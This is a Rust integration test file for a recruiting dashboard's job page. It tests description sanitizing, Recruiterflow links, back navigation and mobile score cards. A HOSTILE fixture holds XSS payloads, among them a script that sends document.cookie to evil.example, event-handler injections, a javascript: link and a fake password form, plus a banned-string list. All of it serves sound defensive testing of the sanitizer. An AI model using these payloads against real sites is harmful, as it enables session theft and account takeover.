//! The job page (issue 13, items 12 to 14): the description from Recruiterflow shown
//! through the sanitizer, "Open in Recruiterflow", "← Dashboard" back to the view the
//! job was opened from, and the scores table as cards on phones.

use jobrank::domain::Role;

use crate::helpers::{spawn_app, spawn_app_with};
use crate::web_support::*;

/// The description box of a job page.
fn description(html: &str) -> &str {
    html.split("<div class=\"description\" id=\"description\">")
        .nth(1)
        .expect("a description")
        .split("</div>\n")
        .next()
        .unwrap()
}

const HOSTILE: &str = concat!(
    "<h2>About the role</h2><p>Lead a <b>team</b> of 5 &amp; grow it.</p>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)><img src=\"https://tracker.example/p.gif\">",
    "<p onmouseover=\"alert(2)\" style=\"position:fixed;top:0\">Hover</p>",
    "<a href=\"javascript:alert(3)\">Apply</a>",
    "<a href=\"https://careers.example/jobs/very-long-link-that-goes-on-and-on-and-on-and-on-and-on-and-on\" target=\"_top\">Careers page</a>",
    "<iframe src=\"https://evil.example\"></iframe><svg onload=alert(4)></svg>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "</div><script>alert(5)</script>",
    "<a href=\"/logout\">Relative</a><style>body{display:none}</style>",
);

#[tokio::test]
async fn hostile_html_in_a_description_is_sanitized_and_formatting_kept() {
    let app = spawn_app().await;
    add_user(&app, "sam@agency.example", Role::Other, false).await;
    add_job(&app, 700, "Head of Data", "Acme", 10, true, HOSTILE).await;
    let b = sign_in(&app, "sam@agency.example").await;
    let res = b.get("/jobs/700").await;
    assert_eq!(res.status(), 200);
    let csp = res.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(csp, jobrank::web::CSP, "the CSP stays as strict");
    let html = res.text().await.unwrap();
    let d = description(&html).to_lowercase();
    for banned in [
        "<script",
        "<img",
        "<iframe",
        "<svg",
        "<form",
        "<input",
        "<style",
        "onerror",
        "onmouseover",
        "onload",
        "style=",
        "javascript:",
        "alert(",
        "href=\"/logout",
        "tracker.example",
        "evil.example",
    ] {
        assert!(!d.contains(banned), "{banned} survived: {d}");
    }
    assert!(d.contains("<h2>about the role</h2>"), "{d}");
    assert!(
        d.contains("<p>lead a <b>team</b> of 5 &amp; grow it.</p>"),
        "{d}"
    );
    assert!(
        d.contains(
            "<a href=\"https://careers.example/jobs/very-long-link-that-goes-on-and-on-and-on-and-on-and-on-and-on\" rel=\"noopener noreferrer\">careers page</a>"
        ),
        "{d}"
    );
    // The page around it is intact: the stray </div> closed nothing of ours.
    assert_eq!(html.matches("<script").count(), 2, "htmx and app.js only");
    assert!(!html.contains("alert("));
    app.stop().await;
}

#[tokio::test]
async fn a_job_without_markup_keeps_its_lines_and_an_empty_one_says_so() {
    let app = spawn_app().await;
    add_user(&app, "sam@agency.example", Role::Other, false).await;
    add_job(
        &app,
        701,
        "Paralegal",
        "Acme",
        10,
        true,
        "Hybrid\nLondon\n\n£40k",
    )
    .await;
    add_job(&app, 702, "Buyer", "Acme", 10, true, "").await;
    let b = sign_in(&app, "sam@agency.example").await;
    let html = b.get("/jobs/701").await.text().await.unwrap();
    assert_eq!(description(&html), "<p>Hybrid<br>London</p><p>£40k</p>");
    let html = b.get("/jobs/702").await.text().await.unwrap();
    assert!(html.contains("Recruiterflow has no description for this job."));
    app.stop().await;
}

#[tokio::test]
async fn open_in_recruiterflow_follows_the_setting_and_back_keeps_the_filters() {
    let app = spawn_app_with(&[(
        "RECRUITERFLOW_JOB_URL",
        "https://recruiterflow.example/app/jobs/{id}/overview".into(),
    )])
    .await;
    add_user(&app, "tom@agency.example", Role::AccountManager, true).await;
    add_job(&app, 703, "Data Engineer", "Acme", 10, true, "").await;
    let b = sign_in(&app, "tom@agency.example").await;
    let link = "href=\"https://recruiterflow.example/app/jobs/703/overview\" target=\"_blank\" rel=\"noopener noreferrer\">Open in Recruiterflow";
    let dashboard = b.get("/?q=data&sort=days").await.text().await.unwrap();
    assert!(dashboard.contains(link), "{dashboard}");
    // The job link carries the view; the job page's "← Dashboard" returns to it.
    assert!(
        dashboard.contains("<a class=\"job-link\" href=\"/jobs/703?q=data&#38;sort=days\">"),
        "{dashboard}"
    );
    let job = b
        .get("/jobs/703?q=data&sort=days")
        .await
        .text()
        .await
        .unwrap();
    assert!(job.contains(link), "{job}");
    assert!(
        job.contains("<a href=\"/?q=data&#38;sort=days\" id=\"back\">← Dashboard</a>"),
        "{job}"
    );
    // Parameters that make no valid view lead back to the plain dashboard.
    let job = b.get("/jobs/703?rank=Z&page=x").await.text().await.unwrap();
    assert!(job.contains("<a href=\"/\" id=\"back\">"), "{job}");
    let job = b.get("/jobs/703").await.text().await.unwrap();
    assert!(job.contains("<a href=\"/\" id=\"back\">"));
    app.stop().await;

    // Unset: no link anywhere.
    let app = spawn_app().await;
    add_user(&app, "tom@agency.example", Role::AccountManager, true).await;
    add_job(&app, 703, "Data Engineer", "Acme", 10, true, "").await;
    let b = sign_in(&app, "tom@agency.example").await;
    assert!(
        !b.get("/")
            .await
            .text()
            .await
            .unwrap()
            .contains("Open in Recruiterflow")
    );
    assert!(
        !b.get("/jobs/703")
            .await
            .text()
            .await
            .unwrap()
            .contains("Open in Recruiterflow")
    );
    app.stop().await;
}

#[tokio::test]
async fn the_scores_tables_carry_their_column_names_for_phone_cards() {
    let app = spawn_app().await;
    add_user(&app, "tom@agency.example", Role::AccountManager, true).await;
    add_job(&app, 704, "Data Engineer", "Acme", 10, true, "").await;
    let b = sign_in(&app, "tom@agency.example").await;
    let res = b
        .post(
            "/jobs/704/score",
            &[
                ("client_engagement", "4"),
                ("search_difficulty", "3"),
                ("time_open", "5"),
                ("fee_size", "2"),
                ("action", "submit"),
            ],
        )
        .await;
    assert!(res.status().is_redirection());
    let html = b.get("/jobs/704").await.text().await.unwrap();
    for table in ["latest-scores", "my-scores"] {
        assert!(
            html.contains(&format!("<table class=\"cards\" id=\"{table}\">")),
            "{table}: {html}"
        );
    }
    for cell in [
        "<td data-label=\"Client engagement — 5 = very responsive client\">4</td>",
        "<td data-label=\"Search difficulty — 5 = easy to fill\">3</td>",
        "<td data-label=\"Time open — 5 = newly opened\">5</td>",
        "<td data-label=\"Fee size — 5 = largest fee\">2</td>",
    ] {
        assert_eq!(html.matches(cell).count(), 2, "{cell}: {html}");
    }
    app.stop().await;
}
